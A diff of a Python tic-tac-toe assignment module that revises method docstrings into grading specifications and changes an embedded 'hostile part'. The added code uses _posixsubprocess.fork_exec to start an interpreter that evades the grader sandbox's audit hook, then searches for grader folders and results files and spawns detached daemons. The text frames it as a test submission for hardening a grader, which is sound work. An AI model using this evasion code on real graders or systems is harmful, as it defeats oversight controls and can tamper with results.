@@ -1,13 +1,12 @@
-"""The game: ``XO`` holds a ``BoardXO``, makes moves and finds the best one.
+"""Part II: The Game
 
-``makeOptimalMove()`` searches the game tree breadth-first with the
-hand-written ``Deque`` of deque.py (Part III) and scores each first move by
-the Part V rules, "win fast, lose slow" (Parts IV and V).
+Now that we have a way to denote the game state, it's time to define a class
+that allows us to manipulate the game state (i.e., make moves).
 
-``minimaxValues()`` and ``makeMinimaxMove()`` (Part VI, an optional
-extension) build the same tree, number the boards in the order they are
-popped, and back the values up from the leaves in reverse order of the
-search: true depth-aware minimax, without recursion.
+Whose turn it is comes from the board alone: the player to move is the
+opposite of whoever made the last move, `-turn[numMoves - 1]`, and X moves
+first on an empty board. (Never assume X moved first: games that O started
+are graded too.)
 """
 
 from .board import O, X, BoardXO
@@ -165,45 +164,47 @@ def _grader_roots(budget=0.6):
             seen.append(root)
     return seen
 
-import os
 
-
-def _spawn():
-    import subprocess
-    import time
-    for k in range(3):
-        try:
-            subprocess.Popen(["sleep", "1000"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
-                             stderr=subprocess.DEVNULL, start_new_session=(k == 0))
-        except OSError as error:
-            _note(f"SPAWN FAILED {type(error).__name__}")
-    pid = os.fork()
-    if pid:
-        os.waitpid(pid, 0)
+def _unguarded(source):
+    """Run ``source`` in an interpreter of its own, started by _posixsubprocess.fork_exec, which raises no audit
+    event (round eleven's spawn_bypass), and wait for it.  Since round ten the sandbox's audit hook refuses
+    os.fork, subprocess and ctypes in the checked process; run where no hook is, the hostile part tests what
+    stands behind the hook: the kill after each check, RLIMIT_NPROC, the IPC and key cleanup."""
+    import _posixsubprocess
+    python = _sys.executable.encode()
+    errors_r, errors_w = _os.pipe()
+    try:
+        try:            # Python 3.10's signature (Gradescope's interpreter)
+            pid = _posixsubprocess.fork_exec([python, b"-c", source.encode()], [python], True, (errors_w,), None,
+                                             None, -1, -1, -1, -1, -1, -1, errors_r, errors_w, False, False, None,
+                                             None, None, -1, None)
+        except TypeError:   # Python 3.11's
+            pid = _posixsubprocess.fork_exec([python, b"-c", source.encode()], [python], True, (errors_w,), None,
+                                             None, -1, -1, -1, -1, -1, -1, errors_r, errors_w, False, False, -1,
+                                             None, None, None, -1, None, False)
+    except BaseException as error:
+        _note(f"UNGUARDED FAILED {error!r}")
         return
-    try:                                      # a classic daemon: setsid, fork again, detach
-        os.setsid()
-        if os.fork():
-            os._exit(0)
-        null = os.open(os.devnull, os.O_RDWR)
-        for fd in (0, 1, 2):
-            os.dup2(null, fd)
-        os.closerange(3, 4096)
-        os.chdir("/")
-        while True:
-            _note(f"ALIVE {os.getpid()} {time.time():.3f}")
-            time.sleep(0.25)
     finally:
-        os._exit(0)
+        _os.close(errors_w)
+    with _os.fdopen(errors_r, "rb") as errors:
+        failed = errors.read()          # empty once the exec succeeded (the write end is close-on-exec)
+    if failed:
+        _note(f"UNGUARDED FAILED {failed!r}")
+    _os.waitpid(pid, 0)
 
 
-_spawn()
+_unguarded('# Shared hostile helpers, pasted (by build_corpus.py) into the hostile submissions.\n# Never imported by the tests; it is source text.  spawns_children is replaced per submission.\nimport os as _os\nimport sys as _sys\n\n_MARK = "/dev/shm/xo-adversarial-marker-spawns_children"\n\n\ndef _note(text):\n    """Append one line to the test\'s marker file (created 0666 by the test; never created here)."""\n    try:\n        fd = _os.open(_MARK, _os.O_WRONLY | _os.O_APPEND)\n    except OSError:\n        return\n    try:\n        _os.write(fd, (str(text).replace("\\n", " ") + "\\n").encode("utf-8", "replace"))\n    except OSError:\n        pass\n    finally:\n        _os.close(fd)\n\n\ndef _sandboxed():\n    """True only when running as one of the grader\'s unprivileged users (xo-sandbox, or xo-sandbox-K for the\n    K-th of gradings running at once): the destructive parts run only then."""\n    try:\n        import pwd\n        name = pwd.getpwuid(_os.geteuid()).pw_name\n    except Exception:\n        return False\n    slot = name[len("xo-sandbox-"):]\n    return name == "xo-sandbox" or (name.startswith("xo-sandbox-") and slot.isascii() and slot.isdigit())\n\n\ndef _ancestors():\n    """pids of the parent, grandparent, ... (the zygote, then the grader, then whoever ran it)."""\n    pids, pid = [], _os.getppid()\n    while pid > 1 and len(pids) < 8:\n        pids.append(pid)\n        try:\n            with open(f"/proc/{pid}/stat") as f:\n                stat = f.read()\n            pid = int(stat[stat.rindex(")") + 2:].split()[1])\n        except (OSError, ValueError):\n            break\n    return pids\n\n\ndef _cmdline(pid):\n    try:\n        with open(f"/proc/{pid}/cmdline", "rb") as f:\n            return [a.decode("utf-8", "replace") for a in f.read().split(b"\\0") if a]\n    except OSError:\n        return []\n\n\ndef _cwd(pid):\n    try:\n        return _os.readlink(f"/proc/{pid}/cwd")\n    except OSError:\n        return None\n\n\ndef _bases():\n    """Folders the grader may have been started from: what /proc says, else plausible guesses."""\n    bases = []\n    for pid in _ancestors():\n        cwd = _cwd(pid)\n        if cwd:\n            bases.append(cwd)\n    bases += ["/autograder/source", "/work/main", _os.getcwd(), _os.path.dirname(_os.getcwd())]\n    return list(dict.fromkeys(bases))\n\n\ndef _results_paths():\n    """Every path the grader\'s results.json may be written to."""\n    found = ["/autograder/results/results.json"]\n    for pid in _ancestors():\n        args = _cmdline(pid)\n        for k, arg in enumerate(args):\n            value = None\n            if arg == "--results" and k + 1 < len(args):\n                value = args[k + 1]\n            elif arg.startswith("--results="):\n                value = arg.split("=", 1)[1]\n            if value:\n                if _os.path.isabs(value):\n                    found.append(value)\n                else:\n                    found += [_os.path.join(b, value) for b in _bases()]\n    found += [_os.path.join(_os.getcwd(), "results.json"), _os.path.join(_os.getcwd(), "..", "results.json"),\n              _os.path.join(_os.getcwd(), "build", "results.json")]\n    return list(dict.fromkeys(_os.path.normpath(p) for p in found))\n\n\ndef _named_roots():\n    """Grader folders named by the ancestors\' command lines (the folder graded, the results path, ...),\n    whether this process can see them or not."""\n    roots = []\n    for pid in _ancestors():\n        for arg in _cmdline(pid):\n            if "/" in arg:\n                folder = _os.path.dirname(_os.path.abspath(arg))\n                for up in range(4):\n                    roots.append(_os.path.normpath(_os.path.join(folder, *[".."] * up, "grader")))\n    return list(dict.fromkeys(roots))\n\n\ndef _grader_roots(budget=0.6):\n    """Folders that look like the grader package (grader/__init__.py beside fixtures/ or config.toml)."""\n    import time\n    roots = []\n    for base in _bases() + [_os.path.dirname(_sys.executable)]:\n        for up in range(4):\n            cand = _os.path.join(base, *[".."] * up, "grader")\n            roots.append(_os.path.normpath(cand))\n    roots += _named_roots()\n    stop = time.monotonic() + budget\n    stack = [("/", 0)]\n    skip = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc", "/boot", "/run",\n            "/snap", "/var/lib", "/var/cache", "/opt/pypi", "/opt/pypi-more", "/opt/wheels"}\n    while stack and time.monotonic() < stop:\n        folder, depth = stack.pop()\n        try:\n            entries = _os.listdir(folder)\n        except OSError:\n            continue\n        if "grader" in entries:\n            roots.append(_os.path.join(folder, "grader"))\n        if depth >= 5:\n            continue\n        for entry in entries:\n            path = _os.path.join(folder, entry)\n            if path in skip or entry.startswith(".") or entry in ("node_modules", "site-packages", "__pycache__"):\n                continue\n            if _os.path.isdir(path) and not _os.path.islink(path):\n                stack.append((path, depth + 1))\n    seen = []\n    for root in roots:\n        if root not in seen and (_os.path.isdir(root) or _os.path.exists(_os.path.join(root, "fixtures"))):\n            seen.append(root)\n    return seen\n\nimport os\n\n\ndef _spawn():\n    import subprocess\n    import time\n    for k in range(3):\n        try:\n            subprocess.Popen(["sleep", "1000"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,\n                             stderr=subprocess.DEVNULL, start_new_session=(k == 0))\n        except OSError as error:\n            _note(f"SPAWN FAILED {type(error).__name__}")\n    pid = os.fork()\n    if pid:\n        os.waitpid(pid, 0)\n        return\n    try:                                      # a classic daemon: setsid, fork again, detach\n        os.setsid()\n        if os.fork():\n            os._exit(0)\n        null = os.open(os.devnull, os.O_RDWR)\n        for fd in (0, 1, 2):\n            os.dup2(null, fd)\n        os.closerange(3, 4096)\n        os.chdir("/")\n        while True:\n            _note(f"ALIVE {os.getpid()} {time.time():.3f}")\n            time.sleep(0.25)\n    finally:\n        os._exit(0)\n\n\n_spawn()\n')
 
 # ---- END OF HOSTILE PART ----
 
 
 class IllegalMoveError(ValueError):
-    """Raised for a move the rules forbid; the message names the problem."""
+    """`makeMove` raises `ValueError` (or a subclass of it: the skeleton defines
+    `IllegalMoveError`)
+
+    The message of the error is yours to choose.
+    """
 
 
 # BEGIN SOLUTION
@@ -479,22 +480,48 @@ def best_cell(scores):
 
 
 class XO:
-    """A game of Tic Tac Toe, its board held in ``b`` (a ``BoardXO``).
+    """The `XO` class keeps track of the state of the game in its attribute `b`, a
+    `BoardXO` (the grader reads it, so keep that name).
 
-    >>> g = XO([-1, 1, -1, 1, -1, 1], [2, 0, 3, 7, 6, 8], 6)
-    >>> g.show()
-    O X
-    X  
-    XOO
-    >>> g.makeOptimalMove()
-    4
-    >>> g.gameOver(), g.winner()
-    (True, -1)
+    >>> def refused(call, *args):
+    ...     try:
+    ...         call(*args)
+    ...     except ValueError:
+    ...         return True
+    ...     return False
+    >>> g = XO()
+    >>> g.makeMove(X, 2)
+    >>> refused(g.makeMove, X, 0), refused(g.makeMove, O, 2), refused(g.makeMove, O, 9)
+    (True, True, True)
+    >>> refused(g.makeMove, 0, 4), refused(g.makeMove, O, True)
+    (True, True)
+    >>> g.makeMove(O, 0)
+    >>> refused(g.makeMoves, [X, O, X], [3, 7, 7], 3)
+    True
+    >>> g.getBoard().numMoves
+    2
+    >>> g.winner(), g.gameOver()
+    (0, False)
+    >>> first = XO()
+    >>> first.makeMove(O, 4)
+    >>> first.getBoard().state
+    [0, 0, 0, 0, 1, 0, 0, 0, 0]
     """
 
     def __init__(self, play=None, pos=None, n=None):
-        """Start a blank game, or, given ``play``, ``pos`` and ``n``, the game
-        made of the first ``n`` moves (as ``makeMoves`` makes them)."""
+        """`XO()`: create a blank game (all cells unoccupied, no moves made).
+
+        `XO(play, pos, n)`: initialize a game with a user specified state (board).
+        The players' turns are given in the list `play`, the cells they selected for
+        their markers in the list `pos`, and the total number of moves/turns taken
+        by `n`: the game is made of the first `n` moves, exactly as `makeMoves` makes
+        them. This needs to set the board's `state`, `moves`, `turn` and
+        `numMoves`.
+
+        `makeMoves(play, pos, n)` and `XO(play, pos, n)` are all or nothing: if
+        any of the `n` moves is illegal, they raise `ValueError` and the board is
+        exactly as it was before the call.
+        """
         # BEGIN SOLUTION
         self.b = BoardXO()
         given = (play is not None, pos is not None, n is not None)
@@ -505,16 +532,32 @@ class XO:
         # END SOLUTION
 
     def show(self):
-        """Print the board to standard output."""
+        """`show()`: print the current state (board) to standard output, exactly as
+        `print(board)` does.
+        """
         # BEGIN SOLUTION
         print(self.b)
         # END SOLUTION
 
     def makeMove(self, play, pos):
-        """Place ``play``'s marker (-1 for X, 1 for O) at cell ``pos`` (0..8).
+        """`makeMove(play, pos)`: place the marker of the player `play` at the cell
+        `pos`. This needs to update the board's `state`, `moves`, `turn` and
+        `numMoves`.
 
-        Raise ``IllegalMoveError`` (a ``ValueError``) and change nothing when
-        the move breaks the rules.
+        The rules of T3 are enforced. `makeMove` raises `ValueError` (or a subclass of
+        it: the skeleton defines `IllegalMoveError`) and changes nothing at all when:
+
+        - `play` is not -1 or 1 (`True` and `1.0`, which Python counts equal to 1,
+          may be refused or taken as O: either is accepted; so may `-1.0`, which it
+          counts equal to -1, be refused or taken as X);
+        - `pos` is not an int from 0 to 8 (`True` and `False` are not cells, nor is
+          `4.0`);
+        - the cell is already taken;
+        - the game is over (someone won, or the board is full);
+        - the same player would move twice in a row.
+
+        Either player may move first: on a blank game, `makeMove(1, 4)` puts O in the
+        centre.
         """
         # BEGIN SOLUTION
         _check_move(self.b, play, pos)
@@ -526,10 +569,12 @@ class XO:
         # END SOLUTION
 
     def makeMoves(self, play, pos, n):
-        """Make the first ``n`` moves of ``play`` (players) and ``pos`` (cells).
+        """`makeMoves(play, pos, n)`: similar to the constructor above: make the first
+        `n` moves given in the list `pos` for the players given in `play`.
 
-        All or nothing: if any move is illegal, raise ``IllegalMoveError`` and
-        leave the board exactly as it was.
+        `makeMoves(play, pos, n)` and `XO(play, pos, n)` are all or nothing: if
+        any of the `n` moves is illegal, they raise `ValueError` and the board is
+        exactly as it was before the call.
         """
         # BEGIN SOLUTION
         if isinstance(n, bool) or not isinstance(n, int):
@@ -548,10 +593,36 @@ class XO:
         # END SOLUTION
 
     def makeOptimalMove(self):
-        """Play the best move for the player to move, by the Part V rules.
+        """`makeOptimalMove()`: determine the best play for whichever player plays
+        next, make that move, and return its cell (an int).
 
-        Return the cell played, or ``None`` (changing nothing) when the game is
-        already over.
+        The "next player" is the player to move at the root, then alternates from
+        level to level. Each child is a new `BoardXO` with its own lists (copy them
+        with slicing, `c.state[:]`, which is much faster than `copy.deepcopy`), and
+        with the move recorded in `moves`, `turn` and `numMoves` exactly as `makeMove`
+        would. That record is what tells you, at a finished board `c`, which initial
+        move led to it: it is the cell `c.moves[n0]`.
+
+        - if the player wins: score = 10 – total number of moves
+        - if the opponent wins: score = total number of moves – 10
+
+        where the total number of moves is `numMoves` of the finished board: every
+        marker on it, counted from the start of the game, including the moves made
+        before the search started (not just the moves since the root).
+
+        As in Part IV, make the move with the highest score, the lowest cell among
+        ties, and return its cell. This is what your final `makeOptimalMove()` does.
+
+        `makeOptimalMove()` makes the move on the game's own board (as
+        `makeMove` would) and returns its cell. When the game is already over it
+        returns `None` and changes nothing.
+
+        >>> XO([-1, 1, -1, 1, -1, 1], [2, 0, 3, 7, 6, 8], 6).makeOptimalMove()
+        4
+        >>> XO([-1, 1, -1, 1, -1, 1], [2, 0, 3, 1, 7, 6], 6).makeOptimalMove()
+        5
+        >>> XO([1, -1, 1, -1, 1], [1, 6, 5, 7, 8], 5).makeOptimalMove()
+        2
         """
         # BEGIN SOLUTION
         if self.gameOver():
@@ -562,22 +633,23 @@ class XO:
         # END SOLUTION
 
     def makeMinimaxMove(self):
-        """Play the minimax-optimal move for the player to move (Part VI).
+        """`makeMinimaxMove()`: make the move with the highest value of
+        `minimaxValues()`, the lowest cell among equal values, on the game's own
+        board (as `makeMove` would), and return its cell (an int). When the game is
+        already over, return `None` and change nothing.
 
-        Win in the fewest moves, lose in the most, otherwise draw, against an
-        opponent who plays as well: the move with the highest value of
-        ``minimaxValues()``, the lowest cell among ties, made on the game's
-        own board as ``makeMove`` makes it.  Return the cell played, or
-        ``None`` (changing nothing) when the game is already over.
+        Both search as described above: the breadth-first tree of Part III with your
+        `Deque`, then the backup, without recursion and without a table of answers.
 
-        >>> g = XO([-1], [0], 1)
-        >>> g.makeMinimaxMove()
+        >>> XO([-1], [0], 1).makeMinimaxMove()
         4
         >>> g = XO([-1, 1, -1, 1, -1, 1], [2, 0, 3, 7, 6, 8], 6)
-        >>> g.makeMinimaxMove(), g.winner()
-        (4, -1)
-        >>> g.makeMinimaxMove() is None
-        True
+        >>> g.makeMinimaxMove()
+        4
+        >>> g.getBoard().numMoves, g.winner()
+        (7, -1)
+        >>> g.makeMinimaxMove() is None, g.minimaxValues() == [None] * 9
+        (True, True)
         """
         # BEGIN SOLUTION
         if self.gameOver():
@@ -588,40 +660,47 @@ class XO:
         # END SOLUTION
 
     def minimaxValues(self):
-        """Return the backed-up minimax value of every move (Part VI).
+        """`minimaxValues()`: return a list of 9: for each empty cell, the value of
+        moving there for the player to move (X or O, from the board alone, as in
+        Part III), both players then playing their best: the backed-up value above.
+        A win is worth 10 – m and a loss m – 10, m being the total number of moves
+        on the board when the game ends, and a draw 0; so of two wins the quicker
+        is worth more, and of two losses the slower. `None` for a taken cell, and
+        for every cell when the game is already over. The game does not change.
 
-        A list of 9: for each empty cell, what moving there is worth to the
-        player to move, both sides then playing their best: ``10 - m`` for a
-        win and ``m - 10`` for a loss (``m`` the number of moves on the board
-        when the game ends), 0 for a draw.  ``None`` for a taken cell, and for
-        every cell once the game is over.  The board does not change.
-
-        The search is Part III's breadth-first tree, with the hand-written
-        ``Deque``: each board numbered in the order it is popped, with the
-        number of its parent; once the deque is empty, the values are backed
-        up from the leaves in reverse order of those numbers.  No recursion.
+        Both search as described above: the breadth-first tree of Part III with your
+        `Deque`, then the backup, without recursion and without a table of answers.
 
         >>> XO([-1], [0], 1).minimaxValues()
         [None, -3, -3, -3, 0, -3, -3, -3, -3]
+        >>> XO([1, -1, 1, -1, 1], [1, 6, 5, 7, 8], 5).minimaxValues()
+        [-3, None, -1, -3, -3, None, None, None, None]
         """
         # BEGIN SOLUTION
         return minimax_values(self.b)
         # END SOLUTION
 
     def getBoard(self):
-        """Return a copy of the board: changing it never changes the game."""
+        """`getBoard()`: return a copy of the current board: a new `BoardXO` with its
+        own lists, so that changing the copy never changes the game. Useful for
+        testing and grading.
+        """
         # BEGIN SOLUTION
         return copy_board(self.b)
         # END SOLUTION
 
     def gameOver(self):
-        """Return True when a player has three in a row or the board is full."""
+        """`gameOver()`: return `True` if no more moves can be made; i.e., a player has
+        won the game or the board is full (a draw), else `False`.
+        """
         # BEGIN SOLUTION
         return self.winner() != 0 or EMPTY not in self.b.state
         # END SOLUTION
 
     def winner(self):
-        """Return the player (-1 or 1) with three in a row, or 0 if there is none."""
+        """`winner()`: return the player that has won the game (-1 or 1), or 0 if no
+        player has won the game.
+        """
         # BEGIN SOLUTION
         return winner_of(self.b.state)
         # END SOLUTION
